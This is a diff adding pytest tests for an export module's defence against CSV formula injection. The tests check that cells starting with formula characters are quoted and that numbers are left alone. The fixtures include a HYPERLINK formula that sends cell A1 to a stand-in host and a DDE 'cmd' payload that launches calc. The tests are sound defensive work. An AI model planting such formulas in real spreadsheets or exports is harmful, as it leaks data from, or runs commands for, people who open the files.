@@ -108,6 +108,46 @@ def test_csv_has_the_same_rows_with_metrics_as_json(toy_store, tmp_path, capsys)
                                                               j["output"])
 
 
+def test_csv_text_that_would_run_as_a_formula_is_quoted(toy_store, tmp_path, capsys):
+    """A model's output `=HYPERLINK(...)` (or any text cell that begins with =, +, -, @, a
+    tab or a carriage return) ran as a formula when the CSV was opened in a spreadsheet:
+    such cells get OWASP's leading single quote; JSON Lines keeps the text as it was."""
+    from toy_run import toy_run
+
+    path = tmp_path / "f.sqlite"
+    store = Store(path)
+    run_id = toy_run(store, answer='=HYPERLINK("http://x.invalid/?"&A1,"Answer: A")')
+    store.close()
+    _export(capsys, path, run_id, "csv", tmp_path / "f.csv")
+    with (tmp_path / "f.csv").open(newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    assert len(rows) == N_ITEMS
+    assert {r["output"] for r in rows} == {'\'=HYPERLINK("http://x.invalid/?"&A1,"Answer: A")'}
+    _export(capsys, path, run_id, "jsonl", tmp_path / "f.jsonl")
+    assert json.loads((tmp_path / "f.jsonl").read_text().splitlines()[0])["output"] \
+        .startswith("=HYPERLINK(")
+
+
+def test_csv_quotes_every_formula_start_but_never_a_number(tmp_path):
+    """Every character OWASP names, in any text column; numbers, and text that is a plain
+    number (a GSM8K answer "-3"), stay numbers: -0.5 must read back as -0.5."""
+    from shootout.export import COLUMNS, write_export
+
+    texts = {"model": "@SUM(1+1)", "item_id": "-2+3", "extracted": "+cmd|' /C calc'!A0",
+             "error": "\tx", "reason": "\r=1", "output": "=1", "gold": "-3",
+             "prompt": "-1.5e-3", "response_key": "+7", "group": "a=b", "reasoning": "-"}
+    row = {c: None for c in COLUMNS} | texts | {
+        "metrics": {"acc": -0.5}, "detail": {}, "ttft_s": -0.5, "repeat": -1}
+    assert write_export([row], "csv", str(tmp_path / "x.csv")) == 1
+    with (tmp_path / "x.csv").open(newline="", encoding="utf-8") as f:
+        got = next(csv.DictReader(f))
+    assert {c: got[c] for c in texts} == {
+        "model": "'@SUM(1+1)", "item_id": "'-2+3", "extracted": "'+cmd|' /C calc'!A0",
+        "error": "'\tx", "reason": "'\r=1", "output": "'=1", "gold": "-3",
+        "prompt": "-1.5e-3", "response_key": "+7", "group": "a=b", "reasoning": "'-"}
+    assert (got["ttft_s"], got["repeat"], got["metrics"]) == ("-0.5", "-1", '{"acc": -0.5}')
+
+
 def test_parquet_rows_match_jsonl(toy_store, tmp_path, capsys):
     pq = pytest.importorskip("pyarrow.parquet")
     path, run_id = toy_store
